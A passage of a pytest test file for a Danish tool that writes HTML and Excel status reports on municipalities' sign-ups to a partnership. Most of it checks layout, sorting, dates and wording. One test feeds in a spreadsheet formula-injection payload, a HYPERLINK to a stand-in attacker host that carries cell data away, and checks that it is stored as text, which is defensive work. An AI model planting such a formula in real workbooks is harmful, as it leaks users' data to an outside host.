               "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-extensions",
               f"--user-data-dir={tmp_path / 'chromium-profile'}", *args]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)


@needs_chromium
class DescribeTheWebPageInChromium:
    @pytest.fixture
    def saved(self, built, tmp_path) -> Path:
        status_report(EXAMPLE_DIR, built, date=LATER, html=tmp_path / "status.html")
        return tmp_path / "status.html"

    def it_is_drawn_as_a_page_of_the_window_size(self, saved, tmp_path):
        shot = tmp_path / "status.png"
        result = headless(tmp_path, f"--screenshot={shot}", "--window-size=1200,900", saved.as_uri())
        assert shot.is_file(), result.stderr
        data = shot.read_bytes()
        assert data[:8] == b"\x89PNG\r\n\x1a\n"
        assert struct.unpack(">II", data[16:24]) == (1200, 900)
        assert len(data) > 20_000  # text and a table, not a blank page

    def it_turns_the_headings_into_sort_buttons_and_shows_the_filters(self, saved, tmp_path):
        dom = headless(tmp_path, "--dump-dom", saved.as_uri()).stdout
        doc = lxml.html.fromstring(dom)
        buttons = doc.findall(".//thead//th/button")
        assert [b.text_content() for b in buttons][:2] == ["Kode", "Kommune"]
        assert all(b.get("type") == "button" for b in buttons) and len(buttons) == 10
        assert doc.find(".//form").get("hidden") is None
        assert doc.findtext(".//*[@id='antal']") == "Viser 98 af 98 kommuner."
        assert doc.findtext(".//caption").endswith("Vælg en kolonneoverskrift for at sortere.")

    def it_filters_and_sorts_as_a_link_says(self, saved, tmp_path):
        dom = headless(tmp_path, "--dump-dom", saved.as_uri() + "?vis=tilmeldt&sorter=-tiltraadt").stdout
        doc = lxml.html.fromstring(dom)
        shown = [r for r in doc.findall(".//tbody/tr") if r.get("hidden") is None]
        assert len(shown) == 24
        assert [r.findtext("th") for r in shown[:2]] == ["Aarhus", "Gladsaxe"]  # approved 8 and 2 September
        assert doc.find(".//thead/tr/th[@data-key='tiltraadt']").get("aria-sort") == "descending"
        assert doc.find(".//thead/tr/th[@data-key='kommune']").get("aria-sort") is None
        assert doc.findtext(".//*[@id='antal']") == "Viser 24 af 98 kommuner."

    def it_searches_by_name_or_code(self, saved, tmp_path):
        dom = headless(tmp_path, "--dump-dom", saved.as_uri() + "?soeg=AA").stdout
        shown = [r.findtext("th") for r in lxml.html.fromstring(dom).findall(".//tbody/tr") if r.get("hidden") is None]
        assert shown == ["Faaborg-Midtfyn", "Høje-Taastrup", "Lyngby-Taarbæk", "Aabenraa", "Aalborg", "Aarhus"]
        dom = headless(tmp_path, "--dump-dom", saved.as_uri() + "?soeg=0751").stdout
        shown = [r.findtext("th") for r in lxml.html.fromstring(dom).findall(".//tbody/tr") if r.get("hidden") is None]
        assert shown == ["Aarhus"]


# --- The workbook ------------------------------------------------------------------------------------


class DescribeTheWorkbook:
    @pytest.fixture
    def book(self, built, tmp_path):
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(follow_up(EXAMPLE_DIR, built, date=LATER)))
        return openpyxl.load_workbook(path)

    def it_has_a_heading_row_an_autofilter_and_a_frozen_heading(self, book):
        sheet = book["Status"]
        assert [c.value for c in sheet[1]] == ["Kode", "Kommune", "Region", "Inviteret", "Tilmeldt", "Aftale",
                                               "Tiltrådt", "Netværk", "Påmindet", "Forsinket med", "Bemærkning"]
        assert sheet.auto_filter.ref == "A1:K99"
        assert sheet.freeze_panes == "A2"
        assert all(cell.font.b for cell in sheet[1])

    def it_writes_days_as_dates_in_a_danish_format_and_codes_as_text(self, book):
        rows = {row[1].value: row for row in book["Status"].iter_rows(min_row=2)}
        approved = rows["Aarhus"][6]
        assert approved.is_date and approved.value == dt.datetime(2021, 9, 8)
        assert approved.number_format == DATE_FORMAT == "[$-406]d. mmmm yyyy"
        assert rows["Aarhus"][0].value == "0751" and rows["København"][0].value == "0101"
        assert [c.value for c in rows["Aarhus"][3:6]] == ["ja", "ja", "udkast"] and rows["Aarhus"][7].value == 2
        assert rows["Albertslund"][9].value is None and rows["Albertslund"][6].value is None

    def it_leaves_an_approval_dated_after_the_day_out_of_the_days_and_notes_it(self, built, tmp_path):
        """Trial 17: text among the dates of Tiltrådt, which Excel's filter and sort of dates then pass over."""
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(follow_up(EXAMPLE_DIR, built, date=AFTER)))
        rows = {row[1].value: row for row in openpyxl.load_workbook(path)["Status"].iter_rows(min_row=2)}
        assert rows["Aarhus"][6].value is None and rows["Aarhus"][10].value == "tiltrådt først 8. september 2021"
        assert all(row[6].value is None or row[6].is_date for row in rows.values())
        assert rows["Albertslund"][6].value is None and rows["Albertslund"][10].value is None

    def it_wraps_a_cell_whose_words_are_wider_than_its_column(self, built, tmp_path):
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(follow_up(EXAMPLE_DIR, built, date=AFTER)))
        rows = {row[1].value: row for row in openpyxl.load_workbook(path)["Status"].iter_rows(min_row=2)}
        sheet = openpyxl.load_workbook(path)["Status"]
        note = rows["Aarhus"][10].value
        assert sheet.column_dimensions["K"].width >= len(note) and not rows["Aarhus"][10].alignment.wrap_text
        for row in rows.values():  # a longer note, or the Tilmeldt column's 'nej, tilmeldte sig først …', wraps
            for cell, width in ((row[4], 10), (row[10], 34)):
                assert bool(cell.alignment.wrap_text) == (isinstance(cell.value, str) and len(cell.value) > width)

    def it_is_wide_enough_for_the_regions_names(self, book):
        longest = max(len(row[2].value) for row in book["Status"].iter_rows(min_row=2))
        assert book["Status"].column_dimensions["C"].width >= longest + 1  # 'Region Hovedstaden'

    def it_sums_up_on_a_sheet_of_its_own(self, book):
        values = dict(book["Overblik"].iter_rows(min_row=2, values_only=True))
        assert values["Opgjort"] == dt.datetime(2021, 9, 20)
        assert values["Inviteret"] == 98 and values["Forsinkede"] == 0
        assert values["Godkendt af kommunalbestyrelsen"] == 2
        assert values["Frist for tilmelding"] == dt.datetime(2021, 8, 16, 12, 0)

    def it_writes_a_title_excel_would_run_as_a_formula_as_text(self, built, tmp_path):
        report = follow_up(EXAMPLE_DIR, built, date=LATER)
        hostile = '=HYPERLINK("http://evil.example/?"&A2,"Klik her")'
        report = dataclasses.replace(report, program=report.program.model_copy(update={"title": hostile}))
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(report))
        with zipfile.ZipFile(path) as archive:
            assert b"<f>" not in archive.read("xl/worksheets/sheet2.xml")
        title = openpyxl.load_workbook(path)["Overblik"]["A1"]
        assert (title.value, title.data_type, title.quotePrefix) == (hostile, "s", True)

    def it_is_the_same_bytes_for_the_same_report_and_valid_office_xml(self, built, tmp_path):
        report = follow_up(EXAMPLE_DIR, built, date=LATER)
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(report))
        assert workbook(report) == path.read_bytes()
        errors = [str(e) for e in OpenXmlValidator(file_format=FileFormat.OFFICE_2019).validate(path).errors]
        assert [e for e in errors if not e.startswith("[semantic]")] == []  # openpyxl writes inline strings


# --- The files and the command ----------------------------------------------------------------------


class DescribeTheReportFiles:
    def it_replaces_its_own_report_but_not_another_file(self, built, tmp_path):
        html, xlsx = tmp_path / "status.html", tmp_path / "status.xlsx"
        status_report(EXAMPLE_DIR, built, date=AFTER, html=html, xlsx=xlsx)
        status_report(EXAMPLE_DIR, built, date=LATER, html=html, xlsx=xlsx)
        assert "20. september 2021" in html.read_text(encoding="utf-8")
        notes = tmp_path / "notes.xlsx"
        notes.write_bytes(b"my own workbook")
        with pytest.raises(InputError, match="exists and was not written by kldocs status"):
            status_report(EXAMPLE_DIR, built, date=LATER, html=tmp_path / "new.html", xlsx=notes)
        assert notes.read_bytes() == b"my own workbook" and not (tmp_path / "new.html").exists()
        status_report(EXAMPLE_DIR, built, date=LATER, xlsx=notes, force=True)
        assert notes.read_bytes()[:2] == b"PK"

    def it_refuses_a_folder_as_a_file(self, tmp_path):
        with pytest.raises(InputError, match="is a folder"):
            write_file(tmp_path, b"x")


class DescribeTheCommand:
    def it_prints_the_table_and_writes_the_page_and_the_workbook(self, built, tmp_path):
        result = CliRunner().invoke(cli, ["status", str(EXAMPLE_DIR), "--out", str(built), "--date", "20-08-2021",
                                          "--html", str(tmp_path / "s.html"), "--xlsx", str(tmp_path / "s.xlsx")])
        assert result.exit_code == 0, result.output
        lines = result.output.splitlines()
        assert lines[0].startswith("Code  Municipality ")
        assert len(lines) == 1 + 98 + 4 + 3  # the table, its summary, and a note on the registrations' days
        assert lines[-2:] == [f"Wrote {tmp_path / 's.html'}", f"Wrote {tmp_path / 's.xlsx'}"]
        assert (tmp_path / "s.html").is_file() and (tmp_path / "s.xlsx").is_file()


SECOND = EXAMPLE_DIR.parent / "faellesskaber-mod-ensomhed-2025"


@pytest.fixture(scope="module")
def interest_report(tmp_path_factory):
    """The second example, which asks for an expression of interest, built and reported on after its deadline."""
    out = tmp_path_factory.mktemp("second") / "out"
    build_all(SECOND, out)
    return follow_up(SECOND, out, date=dt.date(2025, 6, 10))


class DescribeAnExpressionOfInterest:
    """The report words the answers as interest, not as a sign-up."""

    def it_words_the_page_as_interest(self, interest_report):
        words = " ".join(lxml.html.fromstring(html_page(interest_report)).text_content().split())
        assert "Frist for interessetilkendegivelse: mandag den 2. juni 2025 kl. 12.00, udløbet for 8 dage siden." \
            in words
        assert "80 inviterede kommuner har ikke tilkendegivet interesse" in words
        assert "Inviteret, ingen interesse endnu" in words and "tilmeld" not in words.lower()

    def it_words_the_workbook_as_interest(self, interest_report, tmp_path):
        path = tmp_path / "status.xlsx"
        path.write_bytes(workbook(interest_report))
        book = openpyxl.load_workbook(path)
        assert book["Status"]["E1"].value == "Interesseret"
        late = {row[1].value: row[9].value for row in book["Status"].iter_rows(min_row=2)}
        assert late["Allerød"] is None and late["Odense"] is None  # no interest is no delay
        assert [r[0].value for r in book["Overblik"].iter_rows()].count("Frist for interessetilkendegivelse") == 1


def test_the_page_counts_one_municipality_in_the_singular(own, example_copy):
    add_approval_milestone(example_copy, "2021-08-05")  # on 20 August the 24 registered councils have not approved
    report = follow_up(example_copy, own, date=AFTER)
    one_each = [r for r in report.rows if r.registered and r.approved is None][:1] + \
        [r for r in report.rows if r.invited and not r.registered][:1]
    texts = [d["text"] for d in page_context(dataclasses.replace(report, rows=tuple(one_each)))["deadlines"]]
    assert texts == ["1 inviteret kommune har ikke tilmeldt sig", "1 tilmeldt kommune mangler godkendelsen"]
    texts = [d["text"] for d in page_context(report)["deadlines"]]
    assert texts == ["74 inviterede kommuner har ikke tilmeldt sig", "24 tilmeldte kommuner mangler godkendelsen"]


class DescribeARegistrationWithoutAnInvitation:
    """A municipality the partnership is open to may register though this round wrote it no letter."""

    @pytest.fixture
    def uninvited(self, out):
        manifest = out / "invitations" / "manifest.json"
        document = json.loads(manifest.read_text(encoding="utf-8"))
        document["files"] = [f for f in document["files"] if not f["path"].startswith("0751-")]
        manifest.write_text(json.dumps(document, ensure_ascii=False, indent=2), encoding="utf-8")
        (out / "invitations" / "0751-aarhus.docx").unlink()
        return follow_up(EXAMPLE_DIR, out, date=AFTER)

    def it_is_named_and_the_share_registered_is_of_the_invited(self, uninvited):
        assert [r.municipality.name for r in uninvited.uninvited] == ["Aarhus"]
        assert summary_lines(uninvited)[0].startswith("On 20. august 2021: 97 invited, 24 registered")
        assert "Registered without an invitation: Aarhus" in summary_lines(uninvited)
        context = page_context(uninvited)
        totals = dict(context["totals"])
        assert totals["Tilmeldt"] == "24, heraf 23 af de 97 inviterede (24 %)"
        assert totals["Tilmeldt uden invitation"] == "1"
        assert {"text": "Aarhus har tilmeldt sig uden at være inviteret.", "late": False} in context["notices"]

    def it_says_nothing_of_it_when_every_registered_was_invited(self, built):
        report = follow_up(EXAMPLE_DIR, built, date=AFTER)
        assert report.uninvited == () and dict(page_context(report)["totals"])["Tilmeldt"] == "24 (24 %)"
        assert not any("without an invitation" in line for line in summary_lines(report))
